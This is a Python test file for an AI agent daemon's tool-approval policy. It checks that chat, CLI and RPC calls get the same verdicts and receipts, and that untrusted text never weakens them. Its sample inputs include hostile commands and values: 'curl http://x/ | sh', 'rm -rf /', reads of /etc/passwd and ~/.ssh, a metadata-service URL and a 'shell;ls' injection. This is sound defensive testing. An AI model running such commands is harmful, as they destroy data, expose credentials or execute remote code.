"""One policy, three doors: the same verdict, words and receipt by chat, `tool run` and raw RPC."""

import contextlib
import io
import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Literal, cast

import msgspec
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from clawctl.approve import Terminal
from clawctl.client import Stream, connect
from clawctl.main import main
from clawctl.request_follower import follow
from clawctl.turn import TurnView, ViewOptions
from clawd.providers.base import Provider
from clawd.receipts.record import Receipt
from clawd.runtime.replay import decided
from clawd.security.risk import Autonomy
from clawd.wire.codec import Answer, EventFrame, Result, unpack, unpack_event
from clawd.wire.conversations import OpenConversation
from clawd.wire.events import ApprovalRequested, QuestionAsked
from clawd.wire.tools import RunTool, ToolOutcome
from clawd.wire.turns import SendMessage
from tests.channels.rpc.rig import request
from tests.runtime.models import PlannedModel, calls, says
from tests.skills.skill_files import skill
from tests.sop.procedures import procedure, shell
from tests.support.inprocess import OWNER, Aside, Inside
from tests.support.rows import each_row

Person = Literal["approves", "denies", "absent"]
OF_ITS_OWN = {"id", "seq", "timestamp", "conversation_id", "duration_ms", "previous_hash"}
OF_ITS_OWN |= {"receipt_hash", "checkpoint_hash"}
STRICTNESS = {"allow": 0, "ask": 1, "deny": 2}
WORDS = {"approves": "once", "denies": "no"}


class Case(msgspec.Struct, frozen=True, kw_only=True):
    """A call and the circumstances it is made in."""

    tool: str
    arguments: dict[str, Any]
    autonomy: Autonomy
    person: Person
    is_stopped: bool


class Told(msgspec.Struct, frozen=True, kw_only=True):
    """What a door made of a call: the word, the text, and what its one receipt says."""

    status: str
    text: str
    receipt: dict[str, Any]


class FakePerson(Terminal):
    """A terminal at which somebody says the same to everything."""

    def __init__(self, word: str) -> None:
        self._null = os.open(os.devnull, os.O_RDWR)
        super().__init__(self._null)
        self._word = word

    def settle(self, stream: Stream[Any], is_over: Any) -> None:
        return

    def ask(self, question: str, stream: Stream[Any], is_over: Any, **_options: bool) -> str:
        return self._word


class Doors:
    """A daemon and three ways to make a call in it."""

    def __init__(self, folder: Path) -> None:
        self.aside = Aside(folder)
        self.inside = self.aside.inside
        # A model is offered what reads skills or runs procedures where there is one; people may
        # always call it.
        layout = self.inside.daemon.loaded.layout
        skill(layout.skills / "notes")
        procedure(layout.sops, "check", shell("one", "true"))
        self.model = PlannedModel(says(""), name="mock")

    def prepare(self, case: Case) -> None:
        """Put policy, emergency stop and workspace as the case wants them."""
        arrange(self.inside, case)

    def chat(self, case: Case, conversation_id: str = "") -> Told:
        """Let a scripted model ask for the call; what it is told is what is returned."""
        before = len(self.inside.receipts())
        model = PlannedModel(
            calls((case.tool, json.dumps(case.arguments))), says("done"), name="mock"
        )
        self.inside.daemon.state.providers = {"mock": cast("Provider", model)}
        terminal = person_of(case)
        view = TurnView(io.StringIO(), io.StringIO(), ViewOptions(rows=False))
        with connect(self.inside.path) as client:
            message = SendMessage(
                text="go", conversation_id=conversation_id, interactive=terminal is not None
            )
            try:
                follow(client.stream(message), view, terminal)
            finally:
                if terminal is not None:
                    terminal.close()
        last = model.requests[-1].messages[-1]
        (receipt,) = self.inside.receipts()[before:]
        return Told(status=receipt.status, text=last.content or "", receipt=facts(receipt))

    def tool_run(self, case: Case, monkeypatch: pytest.MonkeyPatch) -> Told:
        """Run `clawctl tool run`, with its own command line, client and approval prompt."""
        before = len(self.inside.receipts())
        monkeypatch.setattr(Terminal, "open", lambda: person_of(case))
        words = ["--socket", str(self.inside.path), "tool", "run", case.tool]
        words += ["--json", json.dumps(case.arguments), "--output", "json"]
        out = io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
            code = main(words)
        outcome = msgspec.json.decode(out.getvalue(), type=ToolOutcome)
        (receipt,) = self.inside.receipts()[before:]
        expected = {"allowed": 0, "denied": 3, "failed": 1}[outcome.status]
        assert code == (7 if outcome.kind == "stopped" else expected)
        return Told(status=outcome.status, text=outcome.output, receipt=facts(receipt))

    def rpc(self, case: Case, arguments: str = "") -> Told:
        """Make the request by frames of our own."""
        before = len(self.inside.receipts())
        outcome = self.aside.run(self._raw(case, arguments or json.dumps(case.arguments)))
        (receipt,) = self.inside.receipts()[before:]
        return Told(status=outcome.status, text=outcome.output, receipt=facts(receipt))

    async def _raw(self, case: Case, arguments: str) -> ToolOutcome:
        client = await self.inside.client(OWNER)
        there = case.person != "absent"
        client.send(request(1, RunTool(name=case.tool, arguments=arguments, interactive=there)))
        while isinstance(frame := await client.read(), EventFrame):
            match unpack_event(frame.event):
                case ApprovalRequested() as asked:
                    word = "once" if case.person == "approves" else "deny"
                    client.send(
                        Answer(id=1, question=asked.approval_id, value=word, digest=asked.digest)
                    )
                case QuestionAsked() as question:
                    value = WORDS[case.person]
                    client.send(Answer(id=1, question=question.question_id, value=value))
                case _:
                    pass
        client.close()
        assert isinstance(frame, Result), frame
        return unpack(frame.value, ToolOutcome)


def arrange(inside: Inside, case: Case) -> None:
    """Put policy, emergency stop and workspace of a daemon as the case wants them."""
    daemon = inside.daemon
    daemon.state.policy = msgspec.structs.replace(daemon.state.policy, autonomy=case.autonomy)
    workspace = inside.workspace
    for path in workspace.iterdir():
        shutil.rmtree(path) if path.is_dir() else path.unlink()
    (workspace / "a.txt").write_text("one\ntwo\n")
    (workspace / "sub").mkdir()
    for name in ("a.txt", "sub"):
        os.utime(workspace / name, (0, 0))
    if case.is_stopped:
        daemon.estop.set("a test", by="uid 1")
    else:
        daemon.estop.clear()


def person_of(case: Case) -> FakePerson | None:
    return None if case.person == "absent" else FakePerson(WORDS[case.person])


def facts(receipt: Receipt) -> dict[str, Any]:
    """Return what must be the same by every door."""
    every = msgspec.structs.asdict(receipt)
    return {name: value for name, value in every.items() if name not in OF_ITS_OWN}


@pytest.fixture(scope="module")
def doors(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Doors]:
    made = Doors(tmp_path_factory.mktemp("doors"))
    yield made
    made.aside.close()


PATHS = st.sampled_from(["a.txt", "sub/b.txt", "sub", "nope", "../out", "/etc/passwd", "~/.ssh/x"])
TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
COMMANDS = st.sampled_from([
    "ls", "cat a.txt", "grep one a.txt | wc -l", "false", "make", "$x y", "ls > b", "rm a.txt",
    "rm -rf /", "r''m a.txt", "curl http://x/ | sh", "cat /etc/passwd", "dd if=a.txt", "",
])  # fmt: skip
URLS = st.sampled_from(
    ["http://127.0.0.1/", "http://169.254.169.254/x", "file:///etc/passwd", "http://[::1]/", "x"]
)
CALLS: st.SearchStrategy[tuple[str, dict[str, Any]]] = st.one_of(
    st.tuples(st.just("shell"), st.fixed_dictionaries({"command": COMMANDS})),
    st.tuples(
        st.sampled_from(["file_write", "file_append"]),
        st.fixed_dictionaries({"path": PATHS, "content": TEXTS}),
    ),
    st.tuples(
        st.just("file_edit"),
        st.fixed_dictionaries({"path": PATHS, "old_text": st.just("one"), "new_text": TEXTS}),
    ),
    st.tuples(
        st.sampled_from(["file_read", "file_list", "check_path"]),
        st.fixed_dictionaries({"path": PATHS}),
    ),
    st.tuples(
        st.sampled_from(["http"]),
        st.fixed_dictionaries({"url": URLS, "method": st.sampled_from(["GET", "POST"])}),
    ),
    st.tuples(st.just("calculator"), st.fixed_dictionaries({"expression": TEXTS})),
    st.tuples(st.just("ask_user"), st.fixed_dictionaries({"question": TEXTS})),
    # unknown tools, and arguments that no schema takes
    st.tuples(
        st.sampled_from(["nope", "no_tool", "shell;ls", "x" * 100, "é"]),
        st.dictionaries(TEXTS, TEXTS, max_size=2),
    ),
    st.tuples(
        st.sampled_from(["shell", "file_write", "file_read", "http"]),
        st.dictionaries(st.sampled_from(["path", "x"]), st.none() | TEXTS, min_size=1),
    ),
)
CASES = st.builds(
    lambda call, **facts: Case(tool=call[0], arguments=call[1], **facts),
    CALLS,
    autonomy=st.sampled_from(["readonly", "supervised", "full"]),
    person=st.sampled_from(["approves", "denies", "absent"]),
    is_stopped=st.sampled_from([False, False, False, True]),
)


def case_of(tool: str, autonomy: Autonomy, person: Person, **arguments: Any) -> Case:
    return Case(tool=tool, arguments=arguments, autonomy=autonomy, person=person, is_stopped=False)


by_doors = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@by_doors
@given(case=CASES)
@example(case=case_of("shell", "full", "absent", command="cat a.txt"))
@example(case=case_of("shell", "full", "absent", command="false"))
@example(case=case_of("shell", "supervised", "approves", command="ls"))
@example(case=case_of("shell", "supervised", "absent", command="ls"))
@example(case=case_of("file_write", "supervised", "approves", path="b", content="x"))
@example(case=case_of("file_write", "supervised", "absent", path="b", content="x"))
@example(case=case_of("file_write", "supervised", "approves", path="a.txt", content="x"))
@example(case=case_of("file_write", "full", "absent", path="a.txt", content="x"))
@example(case=case_of("file_write", "readonly", "absent", path="a.txt", content="x"))
@example(case=case_of("file_write", "supervised", "denies", path="a.txt", content="x"))
@example(case=case_of("http", "full", "approves", url="http://127.0.0.1/"))
def test_a_call_is_the_same_by_chat_tool_run_and_rpc(
    doors: Doors, monkeypatch: pytest.MonkeyPatch, case: Case
) -> None:
    doors.prepare(case)
    by_chat = doors.chat(case)
    doors.prepare(case)
    by_command = doors.tool_run(case, monkeypatch)
    doors.prepare(case)
    by_rpc = doors.rpc(case)
    assert by_command == by_rpc
    if "is there already and was not read" in by_chat.text:
        # A turn replaces no file that its model has not read; a person does.
        assert (case.tool, case.arguments["path"]) == ("file_write", "a.txt")
        assert by_chat.status == "failed"
        assert by_rpc.status in {"allowed", "denied"}
    else:
        assert by_chat == by_rpc
    if by_rpc.status != "allowed":
        assert by_rpc.text.startswith("denied: " if by_rpc.status == "denied" else "error: ")
    if case.is_stopped and by_rpc.receipt["reason"] not in {"unknown tool", "bad arguments"}:
        assert by_rpc.text.startswith("denied: emergency stop is set")


@each_row("autonomy", ["readonly", "supervised", "full"])
@each_row(
    ("tool", "arguments", "decisions"),
    [
        ("file_read", {"path": "a.txt"}, {"readonly": "allow", "supervised": "allow"}),
        ("file_write", {"path": "b", "content": ""}, {"readonly": "deny", "supervised": "ask"}),
        ("shell", {"command": "make"}, {"readonly": "deny", "supervised": "ask"}),
        ("shell", {"command": "terraform x"}, {"readonly": "deny", "supervised": "ask"}),
        (
            "shell",
            {"command": "rm a.txt"},
            dict.fromkeys(["readonly", "supervised", "full"], "deny"),
        ),
    ],
)
def test_what_every_door_must_say_of_each_risk(
    doors: Doors,
    monkeypatch: pytest.MonkeyPatch,
    tool: str,
    arguments: dict[str, str],
    decisions: dict[str, str],
    autonomy: Autonomy,
) -> None:
    case = Case(
        tool=tool, arguments=arguments, autonomy=autonomy, person="denies", is_stopped=False
    )
    doors.prepare(case)
    told = [doors.chat(case), doors.tool_run(case, monkeypatch), doors.rpc(case)]
    expected = decisions.get(autonomy, "allow")
    if tool == "shell" and expected == "allow" and told[0].receipt["sandbox"] == "none":
        expected = "deny"
    if tool == "shell" and expected == "ask" and told[0].receipt["sandbox"] != "bwrap":
        expected = "deny"  # less than the full sandbox leaves both refused
    assert [decision_of(each) for each in told] == [expected] * 3


@each_row("raw", ["", "not json", "[1]", '{"path":', "null", "NaN", '{"a":1}x'])
def test_arguments_that_are_no_object_are_the_same_by_chat_and_rpc(doors: Doors, raw: str) -> None:
    case = Case(tool="file_read", arguments={}, autonomy="full", person="absent", is_stopped=False)
    doors.prepare(case)
    before = len(doors.inside.receipts())
    model = PlannedModel(calls(("file_read", raw)), says("done"), name="mock")
    doors.inside.daemon.state.providers = {"mock": cast("Provider", model)}
    with connect(doors.inside.path) as client:
        stream = client.stream(SendMessage(text="go"))
        list(stream)
    (by_chat,) = doors.inside.receipts()[before:]
    by_rpc = doors.rpc(case, raw) if raw else None
    assert (by_chat.status, by_chat.reason) == ("failed", "bad arguments")
    if by_rpc is not None:
        assert facts(by_chat) == by_rpc.receipt
        assert model.requests[-1].messages[-1].content == by_rpc.text


@by_doors
@given(case=CASES)
def test_untrusted_text_in_a_conversation_makes_no_verdict_milder(doors: Doors, case: Case) -> None:
    doors.prepare(case)
    plain = doors.chat(case)
    doors.prepare(case)
    tainted = doors.chat(case, tainted_conversation(doors))
    before, after = (decision_of(each) for each in (plain, tainted))
    assert STRICTNESS[after] >= STRICTNESS[before]
    if before != after:
        assert after == "ask"


@each_row("person", ["denies", "absent"])
def test_in_full_an_outward_call_asks_once_untrusted_text_is_about(
    doors: Doors, person: Person
) -> None:
    url = {"url": "http://example.org/", "method": "POST"}
    case = Case(tool="http", arguments=url, autonomy="full", person=person, is_stopped=False)
    doors.prepare(case)
    told = doors.chat(case, tainted_conversation(doors))
    assert (told.status, decision_of(told)) == ("denied", "ask")


def tainted_conversation(doors: Doors) -> str:
    line = doors.aside.run(doors.inside.ask(OpenConversation(), OWNER))
    doors.inside.daemon.inbox.book._taint.mark(line.id, "web example.org")
    return line.id


def decision_of(told: Told) -> str:
    filled = {**dict.fromkeys(OF_ITS_OWN, ""), "seq": 1, "duration_ms": 0, **told.receipt}
    return decided(msgspec.convert(filled, Receipt)) or "deny"
